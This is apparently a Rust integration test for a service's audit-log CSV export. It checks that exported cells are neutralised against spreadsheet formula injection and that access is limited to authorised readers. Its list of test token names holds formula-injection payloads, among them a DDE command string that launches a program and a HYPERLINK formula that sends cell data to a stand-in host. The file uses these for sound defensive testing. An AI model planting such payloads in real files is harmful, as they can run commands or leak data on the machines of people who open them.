//! The audit log as a file: what people called things runs in no spreadsheet.

use serde_json::json;

use crate::world::World;

/// The cells of a CSV file (RFC 4180), line by line, without its byte order mark.
fn read_cells(text: &str) -> Vec<Vec<String>> {
    let mut lines = vec![vec![String::new()]];
    let mut quoted = false;
    let mut characters = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(character) = characters.next() {
        let line = lines.last_mut().expect("a line");
        match character {
            '"' if quoted && characters.peek() == Some(&'"') => {
                characters.next();
                line.last_mut().expect("a cell").push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => line.push(String::new()),
            '\r' if !quoted => {}
            '\n' if !quoted => lines.push(vec![String::new()]),
            other => line.last_mut().expect("a cell").push(other),
        }
    }
    lines.pop();
    lines
}

#[test]
fn m95_no_cell_of_the_exported_audit_log_runs_in_a_spreadsheet() {
    let world = World::get();
    let victim = world.victim_api();
    // A person may call a token whatever fits in a line; the audit log tells of it.
    let evil = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "＝1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")",
    ];
    for name in evil {
        victim
            .post("/tokens", json!({ "name": name, "actions": ["pull"] }))
            .expect(201);
    }
    victim
        .post(
            "/tokens",
            json!({ "name": "工作电脑", "actions": ["pull"] }),
        )
        .expect(201);
    let path = format!(
        "/audit/export?actor={}&action=token.create",
        world.victim.username
    );
    let api = world.admin_api();
    let answer = api.request(reqwest::Method::GET, &path).send_undescribed();
    let answer = answer.expect(200);
    assert!(answer.header("content-type").starts_with("text/csv"));
    assert_eq!(answer.header("x-content-type-options"), "nosniff");
    assert!(
        answer
            .header("content-disposition")
            .starts_with("attachment;")
    );
    let text = answer.text();
    assert!(text.starts_with('\u{feff}'), "Excel needs it to read UTF-8");
    let lines = read_cells(&text);
    assert_eq!(lines[0][4], "target");
    let targets: Vec<&str> = lines[1..].iter().map(|line| line[4].as_str()).collect();
    for name in evil {
        assert!(targets.contains(&format!("'{name}").as_str()), "{name}");
    }
    assert!(targets.contains(&"工作电脑"));
    for cell in lines.iter().flatten() {
        let begins = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']);
        assert!(!begins, "{cell}");
    }
    let columns = lines[0].len();
    assert!(lines.iter().all(|line| line.len() == columns));
}

#[test]
fn the_exported_audit_log_is_for_whoever_may_read_the_log() {
    let world = World::get();
    let attacker = world.attacker_api();
    let read = |path: &str| {
        attacker
            .request(reqwest::Method::GET, path)
            .send_undescribed()
    };
    let own = format!("/audit/export?namespace={}", world.attacker.username);
    read(&own).expect(200);
    read("/audit/export").expect(403);
    let others = format!("/audit/export?namespace={}", world.victim.username);
    read(&others).expect(404);
}
